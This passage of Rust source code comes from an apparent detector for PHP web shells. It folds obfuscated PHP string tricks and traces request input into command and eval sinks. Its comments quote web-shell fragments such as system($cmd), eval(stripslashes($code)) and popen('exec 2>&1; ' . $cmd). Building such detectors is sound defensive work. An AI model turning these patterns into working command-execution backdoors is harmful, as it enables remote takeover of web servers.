                        Tok::Op(_) => joined |= op(j) == Some(b"."),
                        _ => {}
                    }
                }
                if !clean {
                    if direct {
                        tainted.insert(key);
                        if !joined {
                            whole.insert(key);
                        }
                    }
                    if joined && (direct || !deps.is_empty()) {
                        parts.insert(key);
                    }
                    if !deps.is_empty() {
                        feeds.push((key, deps, joined));
                    }
                }
            }
            // `$x = @value;` (silenced) is `$x = value;`.
            let at = usize::from(op(k + 2) == Some(b"@"));
            let rhs = idx.get(k + 2 + at).map(|&i| &toks[i]);
            if next == Some(b"=")
                && header_depth.is_none()
                && op(k + 3 + at) == Some(b";")
                && rhs.is_some_and(Tok::is_value)
                && prev_op.is_none_or(|p| p != b"$")
            {
                if let Some(v) = rhs.filter(|v| worth_replacing(v)) {
                    value.insert(key, v.clone());
                }
            } else if next == Some(b"=")
                && header_depth.is_none()
                && prev_op.is_none_or(|p| p != b"$")
            {
                // A decoder applied to variables or input: its text, kept whole.
                let mut depth = 0usize;
                let mut end = None;
                for j in k + 2..idx.len().min(k + 2 + DECODER_TOKENS) {
                    let ok = match &toks[idx[j]] {
                        Tok::Op(_) => match op(j) {
                            Some(b"(") => {
                                depth += 1;
                                true
                            }
                            Some(b")") => {
                                depth = depth.saturating_sub(1);
                                true
                            }
                            Some(b"," | b"[" | b"]") => depth > 0,
                            Some(b";") if depth == 0 && j > k + 2 => {
                                end = Some(j);
                                false
                            }
                            _ => false,
                        },
                        Tok::Ident(_) => is_word(ident(j), DECODERS) && op(j + 1) == Some(b"("),
                        Tok::Var(_) | Tok::Req(_) | Tok::Str(..) => depth > 0,
                        _ => false,
                    };
                    if !ok {
                        break;
                    }
                }
                if let Some(end) = end {
                    if is_word(ident(k + 2), DECODERS) {
                        let text = emit(src, &toks[idx[k + 2]..idx[end]]);
                        value.insert(key, Tok::Text(text));
                    }
                }
            }
        }
        // A script written for register_globals: a field of its own form is request
        // input under the same name, where the script never sets it otherwise.
        // (Its literal default is then no constant either.)
        let mut posted: HashSet<VarKey> = HashSet::new();
        for f in form_fields(src) {
            let key = (0, f);
            if !SUPERGLOBALS.contains(&f) && !set_otherwise.contains(&key) {
                tainted.insert(key);
                whole.insert(key);
                posted.insert(key);
            }
        }
        let mut env = Env {
            parent: scopes.parent.clone(),
            ..Env::default()
        };
        for &(sc, n) in writes.keys() {
            env.written.entry(n.to_vec()).or_default().insert(sc);
        }
        for &(sc, n) in &globals {
            env.globals.entry(n.to_vec()).or_default().insert(sc);
        }
        // Through other variables (each read where its writer's scope says), a
        // bounded number of rounds.
        let feeds: Vec<(VarKey, Vec<VarKey>, bool)> = feeds
            .into_iter()
            .map(|(key, deps, joined)| {
                let deps = deps
                    .into_iter()
                    .map(|d| (env.resolve(key.0, d), d))
                    .collect();
                (key, deps, joined)
            })
            .collect();
        for _ in 0..MAX_PASSES {
            let before = (tainted.len(), whole.len());
            for (n, deps, joined) in &feeds {
                if deps.iter().any(|d| tainted.contains(d)) {
                    tainted.insert(*n);
                }
                if !joined && deps.iter().any(|d| whole.contains(d)) {
                    whole.insert(*n);
                }
            }
            if (tainted.len(), whole.len()) == before {
                break;
            }
        }
        for ((sc, n), v) in value {
            if writes.get(&(sc, n)).copied() == Some(1)
                && !SUPERGLOBALS.contains(&n)
                && !posted.contains(&(sc, n))
            {
                env.consts.entry(n.to_vec()).or_default().insert(sc, v);
            }
        }
        for (sc, n) in tainted {
            let constant = env.consts.get(n).is_some_and(|m| m.contains_key(&sc));
            if !constant && !SUPERGLOBALS.contains(&n) {
                env.tainted.entry(n.to_vec()).or_default().insert(sc);
                if whole.contains(&(sc, n)) && !parts.contains(&(sc, n)) {
                    env.whole.entry(n.to_vec()).or_default().insert(sc);
                }
            }
        }
        env
    }
}

/// The names of the fields of HTML forms in a file (`<input ... name="cmd">`,
/// `<textarea name=cmd>`, `<select name=\"cmd\">` printed from PHP): under
/// register_globals each arrives as a variable of that name. Bounded by
/// `MAX_FORM_FIELDS` and `FIELD_SCAN` bytes per tag.
fn form_fields(src: &[u8]) -> HashSet<&[u8]> {
    let mut out = HashSet::new();
    let mut i = 0;
    while i < src.len() && out.len() < MAX_FORM_FIELDS {
        let Some(lt) = memchr::memchr(b'<', &src[i..]).map(|p| p + i) else {
            break;
        };
        i = lt + 1;
        let tag = [b"input".as_slice(), b"textarea", b"select"]
            .into_iter()
            .find(|t| {
                src.get(lt + 1..lt + 1 + t.len())
                    .is_some_and(|s| s.eq_ignore_ascii_case(t))
            });
        let Some(tag) = tag else {
            continue;
        };
        let end = src.len().min(lt + 1 + tag.len() + FIELD_SCAN);
        let body = &src[lt + 1 + tag.len()..end];
        let body = &body[..memchr::memchr(b'>', body).unwrap_or(body.len())];
        // On past what was read: each byte is looked at once (linear in the file).
        i = lt + 1 + tag.len() + body.len();
        let mut j = 0;
        while j + 4 < body.len() {
            let at_name =
                body[j..j + 4].eq_ignore_ascii_case(b"name") && (j == 0 || !is_ident(body[j - 1]));
            if !at_name {
                j += 1;
                continue;
            }
            let mut p = j + 4;
            while p < body.len() && matches!(body[p], b' ' | b'\t') {
                p += 1;
            }
            if body.get(p) != Some(&b'=') {
                j += 4;
                continue;
            }
            p += 1;
            while p < body.len() && matches!(body[p], b' ' | b'\t' | b'\\' | b'"' | b'\'') {
                p += 1;
            }
            let start = p;
            while p < body.len() && is_ident(body[p]) && body[p] < 0x80 {
                p += 1;
            }
            if p > start && is_ident_start(body[start]) {
                out.insert(&body[start..p]);
            }
            break;
        }
    }
    out
}

/// Whether a computed string is one a rule may care about: a name (a function, a
/// superglobal), a URL or a script's file name, or code. Joined prose or markup is folded too but alone does not make
/// a view worth matching.
fn interesting(v: &[u8]) -> bool {
    let name = (2..=40).contains(&v.len())
        && v.first().is_some_and(|&c| is_ident_start(c))
        && v.iter().all(|&c| is_ident(c));
    let starts = |p: &[u8]| v.len() >= p.len() && v[..p.len()].eq_ignore_ascii_case(p);
    let ends = |p: &[u8]| v.len() >= p.len() && v[v.len() - p.len()..].eq_ignore_ascii_case(p);
    let url_or_script = v.len() <= 256
        && (starts(b"http://")
            || starts(b"https://")
            || [b".php".as_slice(), b".phtml", b".phar", b".inc"]
                .iter()
                .any(|e| ends(e)));
    name || url_or_script || (v.len() >= PAYLOAD_MIN && code_like(v))
}

/// Whether a string looks like code: a call, a variable or an open tag.
fn code_like(v: &[u8]) -> bool {
    v.contains(&b'(') || v.contains(&b'$') || contains(v, b"<?")
}

/// Whether a variable's value is worth writing where it is read: what a rule can use
/// (a name, a path or URL, code, request input, pieces), not any text.
fn worth_replacing(v: &Tok) -> bool {
    match v {
        Tok::Str(s, Some(_)) => {
            let url = s.len() <= 256
                && (s.starts_with(b"http://") || s.starts_with(b"https://"))
                && !s.iter().any(|c| c.is_ascii_whitespace());
            (s.len() <= 64
                && !s.is_empty()
                && s.iter().all(|&c| is_ident(c) || b"\\:./-".contains(&c)))
                || url
                || code_like(s)
        }
        _ => true,
    }
}

/// Binding strength of a binary operator (PHP 8), 0 when `op` is not one.
fn prec(op: &[u8]) -> u8 {
    match op {
        b"**" => 16,
        b"*" | b"/" | b"%" => 14,
        b"+" | b"-" => 13,
        b"<<" | b">>" => 12,
        b"." => 11,
        b"<" | b"<=" | b">" | b">=" => 10,
        b"==" | b"!=" | b"===" | b"!==" | b"<>" | b"<=>" => 9,
        b"&" => 8,
        b"^" => 7,
        b"|" => 6,
        b"&&" => 5,
        b"||" => 4,
        b"??" => 3,
        _ => 0,
    }
}

/// Request input by superglobal key: which keys the client chooses.
fn client_key(sg: &[u8], key: &[u8]) -> bool {
    match sg {
        b"_GET" | b"_POST" | b"_REQUEST" | b"_COOKIE" | b"_FILES" => true,
        b"_SERVER" => {
            key.starts_with(b"HTTP_")
                || matches!(
                    key,
                    b"QUERY_STRING" | b"REQUEST_URI" | b"PHP_AUTH_USER" | b"PHP_AUTH_PW"
                )
        }
        _ => false,
    }
}

fn key_text(v: &Tok) -> Option<Vec<u8>> {
    match v {
        Tok::Str(s, _) => Some([b"'".as_slice(), s, b"'"].concat()),
        Tok::Num(n, _) => Some(n.to_string().into_bytes()),
        _ => None,
    }
}

struct Pass<'a> {
    src: &'a [u8],
    env: &'a Env,
    budget: &'a mut Budget,
    payloads: &'a mut Vec<Vec<u8>>,
    notes: &'a mut Vec<Vec<u8>>,
    /// Something a rule could see changed (a value computed, input respelled).
    changed: bool,
    /// Any reduction at all (another pass may find more).
    progress: bool,
    /// Mark tainted variables handed to commands (`Env::tainted`).
    taint: bool,
    /// Each input token's scope (`Scopes::of`), and the current token's.
    scopes: &'a [u32],
    scope: u32,
}

/// Words that are never a bare string.
const KEYWORDS: &[&[u8]] = &[
    b"and",
    b"or",
    b"xor",
    b"as",
    b"new",
    b"echo",
    b"print",
    b"return",
    b"function",
    b"fn",
    b"true",
    b"false",
    b"null",
    b"array",
    b"list",
    b"isset",
    b"empty",
    b"if",
    b"else",
    b"elseif",
    b"while",
    b"for",
    b"foreach",
    b"do",
    b"switch",
    b"case",
    b"default",
    b"break",
    b"continue",
    b"class",
    b"static",
    b"global",
    b"const",
    b"use",
    b"namespace",
    b"instanceof",
    b"clone",
    b"throw",
    b"try",
    b"catch",
    b"finally",
    b"include",
    b"require",
    b"include_once",
    b"require_once",
    b"eval",
    b"exit",
    b"die",
    b"self",
    b"parent",
    b"public",
    b"private",
    b"protected",
    b"abstract",
    b"final",
    b"match",
    b"yield",
    b"goto",
    b"declare",
    b"unset",
];

impl<'a> Pass<'a> {
    fn text(&self, span: &Span) -> &'a [u8] {
        &self.src[span.0..span.1]
    }

    fn op_of(&self, t: Option<&Tok>) -> Option<&'a [u8]> {
        match t {
            Some(Tok::Op(s)) => Some(&self.src[s.0..s.1]),
            _ => None,
        }
    }

    fn ident_of(&self, t: Option<&Tok>) -> Option<Vec<u8>> {
        match t {
            Some(Tok::Ident(s)) => Some(self.src[s.0..s.1].to_ascii_lowercase()),
            _ => None,
        }
    }

    fn run(&mut self, input: Vec<Tok>) -> Vec<Tok> {
        let mut out: Vec<Tok> = Vec::with_capacity(input.len());
        // Each token's lookahead: the next non-whitespace token's text when it is an
        // operator (all a reduction needs to know of it).
        let src = self.src;
        let lookahead: Vec<Option<&'a [u8]>> = {
            let mut v = vec![None; input.len()];
            let mut next = None;
            for i in (0..input.len()).rev() {
                v[i] = next;
                match &input[i] {
                    Tok::Ws(_) => {}
                    Tok::Op((s, e)) => next = Some(&src[*s..*e]),
                    _ => next = Some(b"".as_slice()),
                }
            }
            v
        };
        for (i, (tok, la)) in input.into_iter().zip(lookahead).enumerate() {
            self.scope = self.scopes.get(i).copied().unwrap_or(0);
            let la = la.filter(|l| !l.is_empty());
            let tok = self.substitute(&mut out, tok, la);
            let tok = self.bare_word(&out, tok, la);
            let ws = tok.is_ws();
            out.push(tok);
            if !ws {
                while self.reduce(&mut out, la) {
                    self.progress = true;
                }
            }
        }
        out
    }

    /// A lowercase bare word joined with `.` is a string to PHP 7 (an undefined
    /// constant): `sy.(st).(em)`.
    fn bare_word(&mut self, out: &[Tok], tok: Tok, la: Option<&[u8]>) -> Tok {
        let Tok::Ident(span) = &tok else {
            return tok;
        };
        let word = self.text(span);
        if word.len() > 12 || !word.iter().all(|&c| c.is_ascii_lowercase() || c == b'_') {
            return tok;
        }
        let prev = Self::nth(out, 0);
        let prev_op = self.op_of(prev.map(|p| &out[p]));
        let grouped = prev_op == Some(b"(")
            && la == Some(b")")
            && prev
                .and_then(|p| Self::nth(&out[..p], 0))
                .is_some_and(|b| self.op_of(Some(&out[b])) == Some(b"."));
        if !(prev_op == Some(b".") || la == Some(b".") || grouped)
            || matches!(la, Some(b"(" | b"::" | b"\\"))
            || matches!(prev_op, Some(b"->" | b"?->" | b"::" | b"\\" | b"$"))
            || KEYWORDS.contains(&word)
        {
            return tok;
        }
        // What it joins into says whether anything changed.
        self.progress = true;
        Tok::Str(word.to_vec(), None)
    }

    /// Index of the k-th non-whitespace token from the top of `out` (0 = top).
    fn nth(out: &[Tok], k: usize) -> Option<usize> {
        let mut left = k;
        let mut i = out.len();
        while i > 0 {
            i -= 1;
            if !matches!(out[i], Tok::Ws(_)) {
                if left == 0 {
                    return Some(i);
                }
                left -= 1;
            }
        }
        None
    }

    /// A variable assigned once is replaced by its value where it is read.
    fn substitute(&mut self, out: &mut Vec<Tok>, tok: Tok, la: Option<&[u8]>) -> Tok {
        let Tok::Var(span) = &tok else {
            return tok;
        };
        let name = self.text(span);
        let env = self.env;
        if self.taint && env.is_tainted(self.scope, name) {
            return self.tainted_argument(out, tok, la);
        }
        let Some(v) = env.constant(self.scope, name) else {
            return tok;
        };
        if la.is_some_and(is_assign) {
            return tok;
        }
        // Each copy is paid for: a large value read many times stays bounded.
        let size = match v {
            Tok::Str(s, _) | Tok::Req(s) | Tok::Text(s) => s.len(),
            Tok::Arr(a) => a.iter().map(|i| i.len() + 3).sum(),
            _ => 0,
        };
        if !self.budget.take(size) {
            return tok;
        }
        let prev = Self::nth(out, 0);
        let prev_tok = prev.map(|p| &out[p]);
        let prev_op = self.op_of(prev_tok);
        if matches!(prev_op, Some(b"->" | b"?->" | b"::" | b"&" | b"++" | b"--"))
            || matches!(
                self.ident_of(prev_tok).as_deref(),
                Some(b"global" | b"static" | b"as" | b"function" | b"fn" | b"unset")
            )
        {
            return tok;
        }
        self.progress = true;
        if prev_op == Some(b"$") {
            // $$name: the variable the value names.
            if let (Some(p), Tok::Str(s, _)) = (prev, v) {
                out.truncate(p);
                return self.named_variable(s);
            }
            return tok;
        }
        // A rule sees something new where the value is request input, is called, or
        // is handed to a call as a name or code, or where decoded data reaches a
        // command or code function.
        let arg = matches!(prev_op, Some(b"(" | b","));
        if match v {
            Tok::Req(_) => true,
            Tok::Str(s, _) => la == Some(b"(") || (arg && interesting(s)),
            Tok::Text(_) => self.in_sink_call(out),
            _ => false,
        } {
            self.changed = true;
        }
        match v {
            Tok::Str(s, _) => Tok::Str(s.clone(), None),
            Tok::Num(n, _) => Tok::Num(*n, None),
            other => other.clone(),
        }
    }

    /// A variable fed from request input, handed whole as the first argument of a
    /// function that runs a command or code (`system($cmd)`) or opens or writes a file
    /// by that name (`file_put_contents($path, ...)`), joined into the first
    /// argument of a command or code function, handed whole to a `PASS_THROUGH`
    /// function whose call is that first argument, or run whole by backticks, is written
    /// `$_REQUEST['via $cmd']` there: what reaches the call is the client's.
    fn tainted_argument(&mut self, out: &[Tok], tok: Tok, la: Option<&[u8]>) -> Tok {
        let Tok::Var(span) = &tok else {
            return tok;
        };
        // Joined into the first argument of a command or code function
        // (`popen('exec 2>&1; ' . $cmd, 'r')`): the client's text is run all the same.
        // Or run whole by the shell's backticks (`` `$cmd` ``).
        let prev = Self::nth(out, 0).and_then(|p| self.op_of(Some(&out[p])));
        let joined = la == Some(b".") || prev == Some(b".");
        let backticked = la == Some(b"`") && prev == Some(b"`");
        if backticked || (joined && self.sink_call_argument(out) == Some(0)) {
            return self.via_request(self.text(span));
        }
        if !matches!(la, Some(b")" | b",")) {
            return tok;
        }
        let Some(open) = Self::nth(out, 0) else {
            return tok;
        };
        // `system(@$cmd)` too.
        let open = if self.op_of(Some(&out[open])) == Some(b"@") {
            match Self::nth(&out[..open], 0) {
                Some(o) => o,
                None => return tok,
            }
        } else {
            open
        };
        if self.op_of(Some(&out[open])) != Some(b"(") {
            return tok;
        }
        let Some(callee) = Self::nth(&out[..open], 0) else {
            return tok;
        };
        let name = self.text(span);
        let callee_name = self.ident_of(Some(&out[callee]));
        let sink = callee_name.as_ref().is_some_and(|w| {
            SINKS.contains(&w.as_slice())
                || (FILE_SINKS.contains(&w.as_slice()) && self.env.is_whole(self.scope, name))
        });
        // Or handed whole to a function that passes its text on, itself the first
        // argument of a command or code function (`eval(stripslashes($code))`).
        let through = !sink
            && callee_name
                .as_ref()
                .is_some_and(|w| PASS_THROUGH.contains(&w.as_slice()))
            && self.sink_call_argument(&out[..callee]) == Some(0);
        if !(sink || through) || self.method_or_declaration(out, callee) {
            return tok;
        }
        self.via_request(name)
    }

    /// The marked spelling of request input that reached a command through `$name`.
    fn via_request(&mut self, name: &[u8]) -> Tok {
        self.changed = true;
        self.progress = true;
        Tok::Req([b"$_REQUEST['via $".as_slice(), name, b"']"].concat())
    }

    /// Whether the name at `out[callee]` is a method's (`$o->system(`, `X::exec(`)
    /// or one being declared (`function system(`, `new Exec(`), not PHP's function.
    fn method_or_declaration(&self, out: &[Tok], callee: usize) -> bool {
        Self::nth(&out[..callee], 0).is_some_and(|b| {
            matches!(self.op_of(Some(&out[b])), Some(b"->" | b"?->" | b"::"))
                || matches!(
                    self.ident_of(Some(&out[b])).as_deref(),
                    Some(b"function" | b"new")
                )
        })
    }

    /// Whether the top of `out` is inside the arguments of a command or code
    /// function (`eval('?>' . ` ...), looking back a bounded way.
    fn in_sink_call(&self, out: &[Tok]) -> bool {
        self.sink_call_argument(out).is_some()
    }

    /// Which argument (0 = the first) of a command or code function the top of `out`
    /// is inside, looking back a bounded way; None outside such a call, or in a
    /// method's or a declaration's of that name.
    fn sink_call_argument(&self, out: &[Tok]) -> Option<usize> {
        let mut depth = 0usize;
        let mut commas = 0usize;
        for (seen, i) in (0..out.len()).rev().enumerate() {
            if seen > SINK_LOOKBACK {
                return None;
            }
            match self.op_of(Some(&out[i])) {
                Some(b")" | b"]") => depth += 1,
                Some(b"(" | b"[") if depth > 0 => depth -= 1,
                Some(b",") if depth == 0 => commas += 1,
                Some(b"(") => {
                    let callee = Self::nth(&out[..i], 0)?;
                    let sink = self
                        .ident_of(Some(&out[callee]))
                        .is_some_and(|w| SINKS.contains(&w.as_slice()));
                    return (sink && !self.method_or_declaration(out, callee)).then_some(commas);
                }
                Some(b"[") => return None,
                Some(b";" | b"{" | b"}") => return None,
                _ => {}
            }
        }
        None
    }

    /// `${"name"}`: a superglobal reached by a computed name is noted as such.
    fn named_variable(&mut self, name: &[u8]) -> Tok {
        self.changed = true;
        let text = [b"${\"".as_slice(), name, b"\"}"].concat();
        if SUPERGLOBALS[..7].contains(&name) {
            self.notes.push(text);
            return Tok::Req([b"$".as_slice(), name].concat());
        }
        Tok::Text(text)
    }

    fn computed(&mut self, v: Vec<u8>) -> Option<Tok> {
        if v.len() > MAX_STRING || !self.budget.take(v.len()) {
            return None;
        }
        self.changed |= interesting(&v);
        if v.len() >= PAYLOAD_MIN && code_like(&v) {
            self.payloads.push(v.clone());
        }
        Some(Tok::Str(v, None))
    }

    /// Try one reduction at the top of `out`; `la` is the next token of the input.
    fn reduce(&mut self, out: &mut Vec<Tok>, la_op: Option<&[u8]>) -> bool {
        let Some(top) = Self::nth(out, 0) else {
            return false;
        };
        match self.op_of(Some(&out[top])) {
            Some(b")") => return self.close_paren(out, top),
            Some(b"]") => return self.close_bracket(out, top),
            Some(b"}") => return self.close_brace(out, top),
            _ => {}
        }
        if !out[top].is_value() {
            return false;
        }
        // The value is the left side of something tighter, or is called or indexed.
        let postfix = matches!(
            la_op,
            Some(b"[" | b"(" | b"{" | b"->" | b"?->" | b"::" | b"**")
        );
        let (Some(o), Some(l)) = (Self::nth(out, 1), Self::nth(out, 2)) else {
            return false;
        };
        let op = self.op_of(Some(&out[o]));
        // Unary ~ and - on a value.
        if matches!(op, Some(b"~" | b"-")) && !postfix && !self.is_operand(&out[l]) {
            let v = match (op, &out[top]) {
                (Some(b"~"), Tok::Str(s, _)) => {
                    self.computed(s.iter().map(|b| !b).collect::<Vec<u8>>())
                }
                (Some(b"~"), Tok::Num(n, _)) => Some(Tok::Num(!n, None)),
                (Some(b"-"), Tok::Num(n, _)) => Some(Tok::Num(n.wrapping_neg(), None)),
                _ => None,
            };
            if let Some(v) = v {
                return put(out, o, v);
            }
            return false;
        }
        let Some(op) = op else {
            return false;
        };
        let p = prec(op);
        if p == 0 || postfix || !out[l].is_value() {
            return false;
        }
        if let Some(n) = la_op.map(prec) {
            if n > p || (n == p && op == b"**") {
                return false;
            }
        }
        let before = Self::nth(out, 3).map(|i| &out[i]);
        let before_prec = match before {
            Some(t @ Tok::Op(_)) => {
                let b = self.op_of(Some(t)).unwrap_or_default();
                // + and - are unary unless an operand stands before them.
                let binary = Self::nth(out, 4).is_some_and(|i| self.is_operand(&out[i]));
                match b {
                    b"~" | b"!" | b"@" => 15,
                    b"-" | b"+" if !binary => 15,
                    _ => prec(b),
                }
            }
            _ => 0,
        };
        // Joining is associative: 'a' . 'b' . 'c' folds from either end.
        let joined = op == b"." && self.op_of(before) == Some(b".");
        if before_prec >= p && !joined {
            return false;
        }
        let v = self.binary(op, &out[l], &out[top]);
        match v {
            Some(v) => put(out, l, v),
            None => false,
        }
    }

    fn is_operand(&self, t: &Tok) -> bool {
        match t {
            Tok::Op(s) => matches!(self.text(s), b")" | b"]" | b"}"),
            Tok::Ws(_) => false,
            Tok::Raw(_) => false,
            _ => true,
        }
    }

    fn binary(&mut self, op: &[u8], l: &Tok, r: &Tok) -> Option<Tok> {
        let num = |t: &Tok| match t {
            Tok::Num(n, _) => Some(*n),
            _ => None,
        };
        let string = |t: &Tok| match t {
            Tok::Str(s, _) => Some(s.clone()),
            Tok::Num(n, _) => Some(n.to_string().into_bytes()),
            _ => None,
        };
        if op == b"." {
            let (a, b) = (string(l)?, string(r)?);
            return self.computed([a, b].concat());
        }
        if let (Tok::Str(a, _), Tok::Str(b, _)) = (l, r) {
            let v: Vec<u8> = match op {
                b"^" => a.iter().zip(b).map(|(x, y)| x ^ y).collect(),
                b"&" => a.iter().zip(b).map(|(x, y)| x & y).collect(),
                b"|" => {
                    let (long, short) = if a.len() >= b.len() { (a, b) } else { (b, a) };
                    long.iter()
                        .enumerate()
                        .map(|(i, x)| x | short.get(i).copied().unwrap_or(0))
                        .collect()
                }
                _ => return None,
            };
            return self.computed(v);
        }
        let (a, b) = (num(l)?, num(r)?);
        let v = match op {
            b"+" => a.checked_add(b)?,
            b"-" => a.checked_sub(b)?,
            b"*" => a.checked_mul(b)?,
            b"/" if b != 0 && a % b == 0 => a / b,
            b"%" if b != 0 => a % b,
            b"**" => a.checked_pow(u32::try_from(b).ok()?)?,
            b"<<" => a.checked_shl(u32::try_from(b).ok()?)?,
            b">>" => a.checked_shr(u32::try_from(b).ok()?)?,
            b"^" => a ^ b,
            b"&" => a & b,
            b"|" => a | b,
            _ => return None,
        };
        Some(Tok::Num(v, None))
    }

    /// The single-token arguments between `open` and the top (a `)` or `]`), or None
    /// when an argument is not one token.
    fn args(&self, out: &[Tok], open: usize, close: usize) -> Option<Vec<Tok>> {
        let mut args = Vec::new();
        let mut cur: Option<Tok> = None;
        for t in &out[open + 1..close] {
            if t.is_ws() {
                continue;
            }
            if self.op_of(Some(t)) == Some(b",") {
                args.push(cur.take()?);
            } else if cur.is_some() {
                return None;
            } else {
                cur = Some(t.clone());
            }
        }
        if let Some(c) = cur {
            args.push(c);
        }
        Some(args)
    }

    /// The matching opener of the closer at `close`, if the tokens between are flat
    /// (no nested bracket left unreduced).
    fn opener(&self, out: &[Tok], close: usize, open: &[u8]) -> Option<usize> {
        for i in (0..close).rev() {
            match self.op_of(Some(&out[i])) {
                Some(o) if o == open => return Some(i),
                Some(b"(" | b")" | b"[" | b"]" | b"{" | b"}" | b";") => return None,
                _ => {}
            }
            if matches!(out[i], Tok::Raw(_)) {
                return None;
            }
        }
        None
    }

    /// The flat group that the closer at `top` ends: where its opener stands, its
    /// single-token items, and the token before the opener.
    fn group(&self, out: &[Tok], top: usize, open: &[u8]) -> Option<Group> {
        let at = self.opener(out, top, open)?;
        let items = self.args(out, at, top)?;
        let before = out[..at].iter().rposition(|t| !t.is_ws());
        Some(Group {
            open: at,
            args: items,
            before,
        })
    }

    fn close_paren(&mut self, out: &mut Vec<Tok>, top: usize) -> bool {
        let Some(Group { open, args, before }) = self.group(out, top, b"(") else {
            return false;
        };
        let callee = before.map(|b| &out[b]);
        // A string called as a function ("chr"(101), PHP 7's callable strings) is the
        // function it names.
        let name = match callee {
            Some(Tok::Str(s, _))
                if (1..=64).contains(&s.len())
                    && is_ident_start(s[0])
                    && s.iter().all(|&c| is_ident(c)) =>
            {
                Some(s.to_ascii_lowercase())
            }
            _ => self.ident_of(callee),
        };
        let callish = match callee {
            None => false,
            Some(Tok::Ident(_)) => !matches!(
                name.as_deref(),
                Some(b"echo" | b"print" | b"return" | b"case" | b"and" | b"or" | b"xor")
            ),
            Some(t) => self.is_operand(t),
        };
        if !callish {
            // Grouping: (value) is the value.
            if args.len() == 1 && args[0].is_value() {
                return put(out, open, args[0].clone());
            }
            return false;
        }
        let (Some(name), Some(b)) = (name, before) else {
            return false;
        };
        // A method, a declaration or `new X(...)` is not the builtin of that name.
        let pre = out[..b].iter().rposition(|t| !t.is_ws()).map(|i| &out[i]);
        if matches!(self.op_of(pre), Some(b"->" | b"?->" | b"::" | b"$"))
            || matches!(
                self.ident_of(pre).as_deref(),
                Some(b"function" | b"new" | b"fn")
            )
        {
            return false;
        }
        let Some(v) = self.call(&name, &args) else {
            return false;
        };
        put(out, b, v)
    }

    fn close_bracket(&mut self, out: &mut Vec<Tok>, top: usize) -> bool {
        let Some(Group { open, args, before }) = self.group(out, top, b"[") else {
            return false;
        };
        let base = before.map(|b| &out[b]);
        let indexing = base.is_some_and(|t| self.is_operand(t));
        if !indexing {
            // An array literal of strings.
            let Some(items) = string_items(&args) else {
                return false;
            };
            return put(out, open, Tok::Arr(items));
        }
        let (Some(b), Some(base), [key]) = (before, base, args.as_slice()) else {
            return false;
        };
        let v = match (base, key) {
            (Tok::Str(s, _), Tok::Num(n, _)) => {
                let i = if *n < 0 { s.len() as i64 + n } else { *n };
                usize::try_from(i)
                    .ok()
                    .and_then(|i| s.get(i))
                    .and_then(|c| self.computed(vec![*c]))
            }
            (Tok::Arr(a), Tok::Num(n, _)) => usize::try_from(*n)
                .ok()
                .and_then(|i| a.get(i).cloned())
                .and_then(|s| self.computed(s)),
            (Tok::Var(span), k) => {
                let sg = self.text(span);
                let key = match k {
                    Tok::Str(s, _) => Some(s.as_slice()),
                    _ => None,
                };
                if sg == b"GLOBALS" && key.is_some_and(|key| SUPERGLOBALS[..5].contains(&key)) {
                    // `$GLOBALS['_POST']` is `$_POST`.
                    self.changed = true;
                    key.map(|key| Tok::Req([b"$".as_slice(), key].concat()))
                } else if SUPERGLOBALS[..7].contains(&sg)
                    && key.is_none_or(|key| client_key(sg, key))
                    && !(sg == b"_SERVER" && key.is_none())
                {
                    key_text(k).map(|kt| Tok::Req([b"$".as_slice(), sg, b"[", &kt, b"]"].concat()))
                } else {
                    None
                }
            }
            (Tok::Req(r), k) => {
                key_text(k).map(|kt| Tok::Req([r.as_slice(), b"[", &kt, b"]"].concat()))
            }
            _ => None,
        };
        // (Request input as written is not a change a rule could see.)
        let Some(v) = v else {
            return false;
        };
        put(out, b, v)
    }

    /// `${ "name" }`: a variable named by a string.
    fn close_brace(&mut self, out: &mut Vec<Tok>, top: usize) -> bool {
        let Some(Group {
            args,
            before: Some(dollar),
            ..
        }) = self.group(out, top, b"{")
        else {
            return false;
        };
        // PHP 5 and 7's string offset in braces: "abc"{1} is "b".
        if let (Tok::Str(s, _), [Tok::Num(n, _)]) = (&out[dollar], args.as_slice()) {
            let i = if *n < 0 { s.len() as i64 + n } else { *n };
            let Some(c) = usize::try_from(i).ok().and_then(|i| s.get(i).copied()) else {
                return false;
            };
            let Some(v) = self.computed(vec![c]) else {
                return false;
            };
            return put(out, dollar, v);
        }
        if self.op_of(Some(&out[dollar])) != Some(b"$") {
            return false;
        }
        let [Tok::Str(name, _)] = args.as_slice() else {
            return false;
        };
        let v = self.named_variable(name);
        put(out, dollar, v)
    }

    /// The superglobal an `INPUT_*` constant names (filter_input's first argument).
    fn input_source(&self, t: Option<&Tok>) -> Option<&'static [u8]> {
        let Some(Tok::Ident(span)) = t else {
            return None;
        };
        Some(match self.text(span) {
            b"INPUT_GET" => b"_GET",
            b"INPUT_POST" => b"_POST",
            b"INPUT_COOKIE" => b"_COOKIE",
            b"INPUT_REQUEST" => b"_REQUEST",
            b"INPUT_SERVER" => b"_SERVER",
            _ => return None,
        })
    }

    /// A builtin applied to literal arguments.
    fn call(&mut self, name: &[u8], args: &[Tok]) -> Option<Tok> {
        let s = |i: usize| match args.get(i) {
            Some(Tok::Str(s, _)) => Some(s.as_slice()),
            _ => None,
        };
        let n = |i: usize| match args.get(i) {
            Some(Tok::Num(n, _)) => Some(*n),
            _ => None,
        };
        let one = args.len() == 1;
        let v: Vec<u8> = match name {
            b"filter_input" => {
                let sg = self.input_source(args.first())?;
                let key = args.get(1)?;
                if let Tok::Str(k, _) = key {
                    if !client_key(sg, k) {
                        return None;
                    }
                }
                let kt = key_text(key)?;
                self.changed = true;
                return Some(Tok::Req([b"$".as_slice(), sg, b"[", &kt, b"]"].concat()));
            }
            b"filter_input_array" => {
                let sg = self.input_source(args.first())?;
                if sg == b"_SERVER" {
                    return None;
                }
                self.changed = true;
                return Some(Tok::Req([b"$".as_slice(), sg].concat()));
            }
            b"getenv" if one => {
                let k = s(0)?;
                if !k.starts_with(b"HTTP_") {
                    return None;
                }
                self.changed = true;
                return Some(Tok::Req([b"$_SERVER['".as_slice(), k, b"']"].concat()));
            }
            // The raw request body.
            b"file_get_contents" | b"stream_get_contents"
                if one && s(0).is_some_and(|p| p.eq_ignore_ascii_case(b"php://input")) =>
            {
                self.changed = true;
                return Some(Tok::Req(b"$_POST['php://input']".to_vec()));
            }
            b"array" => return string_items(args).map(Tok::Arr),
            b"chr" if one => {
                let c = n(0)?;
                vec![c.rem_euclid(256) as u8]
            }
            b"ord" if one => {
                return Some(Tok::Num(
                    i64::from(s(0)?.first().copied().unwrap_or(0)),
                    None,
                ))
            }
            b"bindec" | b"hexdec" | b"octdec" if one => {
                let radix = match name {
